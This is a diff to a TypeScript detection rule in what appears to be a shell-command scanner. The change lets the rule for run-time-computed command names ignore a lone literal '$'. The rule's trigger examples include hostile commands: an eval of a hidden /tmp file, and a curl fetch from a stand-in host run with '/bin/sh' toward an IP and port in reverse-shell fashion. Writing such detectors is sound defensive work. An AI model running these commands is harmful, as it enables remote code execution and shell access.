@@ -44,7 +44,8 @@ export const PARSER_RULES: readonly Rule[] = [
   {
     id: 'PX-PARSE-004', name: 'dynamic-command-name', score: 30, tactic: 'defense_evasion', technique: 'T1027.010',
     message: 'The command name is computed at run time and could not be resolved', why: 'Building the name of the program to run from variables or substitutions hides it from review.',
-    test: (c) => (shellSetupOutput(c) ? undefined : c.dynamic[0] && !/^\$\{?(EDITOR|VISUAL|PAGER|SHELL|CC|CXX|PYTHON|NODE|NPM|MAKE|BROWSER|GIT|JAVA|JAVA_HOME|GOPATH|HOME|PWD|CARGO|DOCKER|KUBECTL)\b/.test(c.argv[0] ?? '') && !/^"?\$\{?[0-9@*]/.test(c.argv[0] ?? '') && !/^\$\{?[a-z_]+\}?$/.test(c.argv[0] ?? '') ? c.argv[0] : undefined),
+    // (a lone `$` is a literal dollar, as in a unit file's regular expression `($|/)`)
+    test: (c) => (shellSetupOutput(c) || c.argv[0] === '$' ? undefined : c.dynamic[0] && !/^\$\{?(EDITOR|VISUAL|PAGER|SHELL|CC|CXX|PYTHON|NODE|NPM|MAKE|BROWSER|GIT|JAVA|JAVA_HOME|GOPATH|HOME|PWD|CARGO|DOCKER|KUBECTL)\b/.test(c.argv[0] ?? '') && !/^"?\$\{?[0-9@*]/.test(c.argv[0] ?? '') && !/^\$\{?[a-z_]+\}?$/.test(c.argv[0] ?? '') ? c.argv[0] : undefined),
     examples: { fire: ['eval "$(cat /tmp/.cfg)"', '$(curl -s http://x.example/n) -e /bin/sh 1.2.3.4 4444', '`cat /tmp/n` --x'], quiet: ['eval "$(/opt/homebrew/bin/brew shellenv)"', 'eval "$(pyenv init -)" && pyenv install 3.12.6', 'eval "$(ssh-agent -s)"', '$EDITOR README.md', '"$@"', 'for f in *; do $cmd "$f"; done'] },
   },
   {
